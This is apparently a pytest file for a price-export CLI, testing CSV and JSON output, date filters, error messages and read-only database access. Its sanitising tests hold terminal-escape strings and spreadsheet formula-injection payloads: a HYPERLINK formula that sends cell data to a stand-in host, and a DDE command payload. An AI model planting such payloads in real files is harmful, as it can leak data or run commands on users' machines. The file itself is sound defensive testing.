"""`rankbot export prices` and `rankbot export changes`, through the CLI, against expectations
worked out from the fixture catalogs' JSON and from what `rankbot poll --json` printed."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import sqlite3
from collections import Counter
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from sqlite_utils import Database

from rankbot.shell.cli import cli
from rankbot.storage import UnitOfWork
from rankbot.storage.migrations import migrations
from tests.conftest import (
    FIXTURES,
    catalog_bytes,
    published_prices,
    rankings_csv,
    raw_models,
    serve_export,
)
from tests.fakes.openrouter import FakeOpenRouter

OLD, NEW = "2026-07-14T025033Z", "2026-07-20T194813Z"
FIRST = ("prompt", "completion", "input_cache_read")  # each model's first fields, in order
HOSTILE = '\x1b[31mEvil\nName, "quoted"\r\tend\u202e'

Step = tuple[str, str, str, str, Decimal]  # model, field, from, until ("" if current), price


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    monkeypatch.chdir(tmp_path)
    for name in list(os.environ):
        if name.startswith(("RANKBOT_", "OPENROUTER_")):
            monkeypatch.delenv(name)
    return {"RANKBOT_DB": str(tmp_path / "history.db"), "RANKBOT_LOG_FILE": ""}


def invoke(env: dict[str, str], *args: str) -> Result:
    return CliRunner().invoke(cli, list(args), env=env, catch_exceptions=False,
                              prog_name="rankbot")


def imported(env: dict[str, str], tmp_path: Path, *catalogs: tuple[str, bytes]) -> None:
    """`rankbot import` of catalogs given as (fetch stamp, body)."""
    files = []
    for stamp, body in catalogs:
        path = tmp_path / f"{stamp}.json.gz"
        path.write_bytes(gzip.compress(body))
        files.append(str(path))
    assert invoke(env, "import", *files).exit_code == 0


def fixture(stamp: str) -> tuple[str, bytes]:
    return stamp, catalog_bytes(stamp)


def iso(stamp: str) -> str:
    return datetime.strptime(stamp, "%Y-%m-%dT%H%M%SZ").strftime("%Y-%m-%dT%H:%M:%SZ")


def prices_of(entry: dict[str, Any]) -> dict[str, Decimal]:
    """An entry's stored prices (per 1M tokens, or per unit), by field, straight from the JSON;
    none for a router, whose prices are set per request."""
    pricing = entry.get("pricing", {})
    dynamic = "-1" in (pricing.get("prompt"), pricing.get("completion"))
    return {} if dynamic else published_prices(pricing)


def expected_steps(old: str, new: str) -> set[Step]:
    """The steps after importing two catalogs, independently of rankbot's code."""
    before, after = raw_models(old), raw_models(new)
    steps: set[Step] = set()
    for model_id in before.keys() | after.keys():
        a = prices_of(before[model_id]) if model_id in before else {}
        b = prices_of(after[model_id]) if model_id in after else {}
        for field in a.keys() | b.keys():
            if field in a and a[field] == b.get(field):
                steps.add((model_id, field, iso(old), "", a[field]))
                continue
            if field in a:
                steps.add((model_id, field, iso(old), iso(new), a[field]))
            if field in b:
                steps.add((model_id, field, iso(new), "", b[field]))
    return steps


def csv_steps(text: str) -> set[Step]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and list(rows[0]) == ["model", "name", "field", "from", "until", "price"]
    return {(r["model"], r["field"], r["from"], r["until"], Decimal(r["price"])) for r in rows}


def json_steps(text: str) -> list[dict[str, Any]]:
    return [json.loads(line, parse_float=Decimal) for line in text.splitlines()]


def test_price_steps_are_those_of_the_catalogs_json(env: dict[str, str], tmp_path: Path
                                                    ) -> None:
    imported(env, tmp_path, fixture(OLD), fixture(NEW))
    expected = expected_steps(OLD, NEW)
    result = invoke(env, "export", "prices")
    assert result.exit_code == 0
    assert csv_steps(result.stdout) == expected
    # Of a model whose prompt price moved: its two steps, split at the second fetch.
    assert {s for s in expected if s[0] == "deepseek/deepseek-chat-v3-0324"
            and s[1] == "prompt"} == {
        ("deepseek/deepseek-chat-v3-0324", "prompt", iso(OLD), iso(NEW), Decimal("0.24")),
        ("deepseek/deepseek-chat-v3-0324", "prompt", iso(NEW), "", Decimal("0.27"))}
    # A model changed for another reason keeps one step per price.
    old, new = raw_models(OLD), raw_models(NEW)
    same = [i for i in old.keys() & new.keys() if old[i] != new[i]
            and prices_of(old[i]) == prices_of(new[i]) and prices_of(old[i])]
    assert same
    assert all(s[2] == iso(OLD) and s[3] == "" for s in expected if s[0] in same)

    # JSON lines: the same steps, `until` null for the current price, prices exact numbers.
    records = json_steps(invoke(env, "export", "prices", "--format", "json").stdout)
    assert {(r["model"], r["field"], r["from"], r["until"] or "", r["price"])
            for r in records} == expected
    assert all(isinstance(r["price"], Decimal | int) for r in records)
    assert len(records) == len(expected)


def test_prices_are_plain_decimals(env: dict[str, str], tmp_path: Path) -> None:
    catalog = json.loads(catalog_bytes(OLD))
    catalog["data"][0]["pricing"].update(prompt="0.0000015", completion="0.00006006",
                                         input_cache_read="0.00001")
    imported(env, tmp_path, (OLD, json.dumps(catalog).encode()))
    model = catalog["data"][0]["id"]
    csv_text = invoke(env, "export", "prices", model).stdout
    assert [line.rsplit(",", 1)[1] for line in csv_text.splitlines()[1:4]] == [
        "1.5", "60.06", "10"]
    assert [line.split(",")[2] for line in csv_text.splitlines()[1:4]] == list(FIRST)
    json_text = invoke(env, "export", "prices", model, "--format", "json").stdout
    assert [line.rsplit(":", 1)[1] for line in json_text.splitlines()[:3]] == [
        " 1.5}", " 60.06}", " 10}"]


def test_since_keeps_the_steps_still_in_force(env: dict[str, str], tmp_path: Path) -> None:
    imported(env, tmp_path, fixture(OLD), fixture(NEW))
    expected = expected_steps(OLD, NEW)
    ended = {s for s in expected if s[3]}
    assert ended
    # Before the second fetch every step held; at it, those it ended no longer did.
    assert csv_steps(invoke(env, "export", "prices", "--since", "2026-07-20").stdout) == expected
    at_new = invoke(env, "export", "prices", "--since", iso(NEW)).stdout
    assert csv_steps(at_new) == expected - ended
    later = invoke(env, "export", "prices", "--since", "2027-01-01T00:00").stdout
    assert csv_steps(later) == expected - ended


def test_a_query_matches_as_slash_price_does_removed_models_too(
        env: dict[str, str], tmp_path: Path) -> None:
    imported(env, tmp_path, fixture(OLD), fixture(NEW))
    ids = raw_models(OLD).keys() | raw_models(NEW).keys()
    steps = csv_steps(invoke(env, "export", "prices", "qwen3-coder").stdout)
    assert {s[0] for s in steps} == {i for i in ids if i.split(":")[0] == "qwen/qwen3-coder"}
    gone = sorted(raw_models(OLD).keys() - raw_models(NEW).keys())[0]
    steps = csv_steps(invoke(env, "export", "prices", gone).stdout)
    assert steps and all(s[3] == iso(NEW) for s in steps if s[0] == gone)


def test_bad_input_and_an_empty_database_are_one_line_each(env: dict[str, str],
                                                            tmp_path: Path) -> None:
    UnitOfWork.open(env["RANKBOT_DB"]).close()  # a database, without a catalog yet
    empty = invoke(env, "export", "changes")
    assert empty.exit_code == 1
    assert empty.stderr == ("Error: no catalog stored yet: run `rankbot poll` or `rankbot "
                            "import` first\n")
    imported(env, tmp_path, fixture(OLD))
    for args, said in [(("prices", "--since", "last week"), "--since: cannot read 'last week'"),
                       (("changes", "--since", "2026-13-01"), "cannot read '2026-13-01'"),
                       (("prices", "--format", "xml"), "unknown format 'xml'"),
                       (("prices", "qwen3-codr"), "did you mean 'qwen3-coder'"),
                       (("prices", "no-such-model-at-all"), "no stored model matches")]:
        result = invoke(env, "export", *args)
        assert result.exit_code == 1, args
        assert result.stdout == ""
        assert result.stderr.count("\n") == 1 and said in result.stderr, result.stderr


def test_hostile_names_come_out_safely(env: dict[str, str], tmp_path: Path) -> None:
    catalog = json.loads(catalog_bytes(OLD))
    target = next(m for m in catalog["data"] if not m["id"].startswith("~"))
    target["pricing"].update(prompt="0.000001", completion="0.000004",
                             input_cache_read="0.0000005")
    imported(env, tmp_path, (OLD, json.dumps(catalog).encode()))
    target["name"] = HOSTILE
    target["pricing"]["prompt"] = "0.000002"
    catalog["data"].append({**target, "id": "evil/model"})
    imported(env, tmp_path, (NEW, json.dumps(catalog).encode()))

    csv_text = invoke(env, "export", "prices").stdout
    assert not {"\x1b", "\r", "\t", "\u202e"} & set(csv_text)
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert len(rows) == len(csv_text.splitlines()) - 1  # one record a line
    # Control characters and escape sequences go, line breaks and tabs become spaces, and the
    # csv module quotes the commas and quotes.
    hostile = [r for r in rows if r["model"] in (target["id"], "evil/model")]
    assert {r["name"] for r in hostile if r["until"] == ""} == {'Evil Name, "quoted" end'}
    assert {(r["model"], r["field"], r["price"]) for r in hostile if r["until"] == ""
            and r["field"] in FIRST} == {
        (model, field, price) for model in (target["id"], "evil/model")
        for field, price in (("prompt", "2"), ("completion", "4"), ("input_cache_read", "0.5"))}

    json_text = invoke(env, "export", "prices", "evil/model", "--format", "json").stdout
    changes = invoke(env, "export", "changes").stdout
    for text in (json_text, changes):
        assert not {"\x1b", "\r", "\t", "\u202e"} & set(text)
        assert all(line.startswith("{") and line.endswith("}") for line in text.splitlines())
    assert {r["name"] for r in json_steps(json_text)} == {HOSTILE}
    found = [json.loads(line) for line in changes.splitlines()]
    assert {"at": iso(NEW), "kind": "model_added", "model": "evil/model", "name": HOSTILE,
            "prompt": "2", "completion": "4",
            "context_length": target.get("context_length")} in found
    assert {"at": iso(NEW), "kind": "price_changed", "model": target["id"], "field": "prompt",
            "old": "1", "new": "2", "pct": "100"} in found

    # A close spelling suggested in an error is quoted: one line, no escape sequence.
    typo = invoke(env, "export", "prices", '[31mevil name, "quoted" end')
    assert typo.exit_code == 1 and "did you mean" in typo.stderr
    assert typo.stderr.count("\n") == 1 and "\x1b" not in typo.stderr, typo.stderr
    assert "\\x1b[31mevil\\nname" in typo.stderr  # the name, escaped


STAMPS = sorted(p.name.removesuffix(".json.gz") for p in (FIXTURES / "models").iterdir())


def test_changes_are_what_poll_json_printed_when_the_catalogs_were_polled(
        env: dict[str, str], fake_openrouter: FakeOpenRouter) -> None:
    env |= {"OPENROUTER_BASE_URL": fake_openrouter.base_url}
    serve_export(fake_openrouter, rankings_csv("2026-10-01"))  # the same every poll: no news
    printed: list[dict[str, Any]] = []
    for stamp in STAMPS:
        fake_openrouter.serve("models", catalog_bytes(stamp))
        result = invoke(env, "poll", "--json")
        store = UnitOfWork.open(env["RANKBOT_DB"], read_only=True)
        fetch = store.snapshots.last_catalog_fetch()
        store.close()
        assert fetch is not None
        at = fetch.at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        printed += [{"at": at, **record} for line in result.stdout.splitlines()
                    if not (record := json.loads(line))["kind"].startswith("sunset_")]
        # (retirement dates are told as time passes, from the clock of each poll: not replayed)
    kinds = Counter(r["kind"] for r in printed)
    assert {"price_changed", "model_added", "model_removed", "context_changed"} <= kinds.keys()

    exported = [json.loads(line) for line in invoke(env, "export", "changes").stdout.splitlines()]
    assert Counter(map(_key, exported)) == Counter(map(_key, printed))
    times = sorted({r["at"] for r in printed})  # polls a second apart or less share one
    cut = times[len(times) // 2]
    since = [json.loads(line) for line in
             invoke(env, "export", "changes", "--since", cut).stdout.splitlines()]
    assert Counter(map(_key, since)) == Counter(_key(r) for r in printed if r["at"] >= cut)


def _key(record: dict[str, Any]) -> str:
    return json.dumps(record, sort_keys=True)


# -- the database is only read; times and spreadsheets ------------------------------------------


def test_export_never_creates_or_writes_the_database(env: dict[str, str], tmp_path: Path
                                                     ) -> None:
    db = Path(env["RANKBOT_DB"])
    for args in (("prices",), ("changes",), ("catalog", "--at", "2026-07-20")):
        missing = invoke(env, "export", *args)
        assert missing.exit_code == 1, args
        assert missing.stderr == (f"Error: no database at {db.absolute()}: run `rankbot poll` "
                                  "first\n")
        assert list(tmp_path.iterdir()) == []  # no file, no -wal, no folder
    imported(env, tmp_path, fixture(OLD), fixture(NEW))
    # As an operator who removed the console's subscription: a writable open would add it.
    with sqlite3.connect(db) as conn:
        conn.execute("DELETE FROM subscriptions")
    conn.close()
    before, mtime = db.read_bytes(), db.stat().st_mtime_ns
    for args in (("prices",), ("prices", "qwen", "--format", "json"), ("changes",),
                 ("catalog", "--at", iso(NEW))):
        assert invoke(env, "export", *args).exit_code == 0, args
    assert db.read_bytes() == before and db.stat().st_mtime_ns == mtime
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT COUNT(*) FROM subscriptions").fetchone() == (0,)
    conn.close()


def test_a_database_that_needs_a_migration_is_refused_not_migrated(
        env: dict[str, str]) -> None:
    db = Path(env["RANKBOT_DB"])
    older = Database(db)
    last = migrations._migrations[-1].name  # as the rankbot before the newest migration left it
    migrations.apply(older, stop_before=last)
    older.close()
    before = db.read_bytes()
    result = invoke(env, "export", "prices")
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and "needs upgrading" in result.stderr
    assert last in result.stderr, result.stderr
    assert db.read_bytes() == before


@pytest.mark.parametrize("args", [
    ("catalog", "--at", "0001-01-01T00:00:00+01:00"),  # year 0 in UTC
    ("catalog", "--at", "9999-12-31T23:00:00-05:00"),  # year 10000 in UTC
    ("prices", "--since", "0001-01-01T00:00:00+14:00"),
    ("changes", "--since", "9999-12-31T23:59:59-00:01"),
    ("catalog", "--at", "2026-02-30"),
])
def test_a_time_out_of_range_is_one_line(env: dict[str, str], tmp_path: Path,
                                         args: tuple[str, ...]) -> None:
    imported(env, tmp_path, fixture(OLD))
    result = invoke(env, "export", *args)
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr == (f"Error: {args[1]}: cannot read {args[2]!r} as a time; give "
                             "2026-07-20 or 2026-07-20T19:48:13Z (UTC)\n")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def test_no_cell_is_a_spreadsheet_formula(env: dict[str, str], tmp_path: Path) -> None:
    catalog = json.loads(catalog_bytes(OLD))
    model = next(m for m in catalog["data"] if not m["id"].startswith("~"))
    catalog["data"] = [{**model, "id": f"evil/formula-{n}", "name": name}
                       for n, name in enumerate(FORMULAS)]
    catalog["data"].append({**model, "id": "=cmd|'/c,calc'!A0", "name": "-1"})
    imported(env, tmp_path, (OLD, json.dumps(catalog).encode()))
    rows = list(csv.DictReader(io.StringIO(invoke(env, "export", "prices").stdout)))
    names = {r["model"]: r["name"] for r in rows}
    # OWASP: a text cell starting with = + - @ (or a tab or a carriage return, which are made
    # a space or dropped here) gets a ' before it, so that a spreadsheet shows it as text.
    assert names == {
        "evil/formula-0": "'" + FORMULAS[0], "evil/formula-1": "'+1+1",
        "evil/formula-2": "'-2+3", "evil/formula-3": "'@SUM(A1:A2)",
        "evil/formula-4": " =1+1", "evil/formula-5": "'=1+1", "'=cmd|'/c,calc'!A0": "'-1"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row.values())
    # Times and prices are as they were; JSON has no cells to guard.
    assert {(r["field"], Decimal(r["price"])) for r in rows if r["model"] == "evil/formula-0"
            and r["field"] in FIRST} == {(field, Decimal(model["pricing"][field]) * 10**6)
                                         for field in FIRST if field in model["pricing"]}
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", r["from"]) for r in rows)
    records = json_steps(invoke(env, "export", "prices", "--format", "json").stdout)
    assert {r["name"] for r in records} == {*FORMULAS, "-1"}
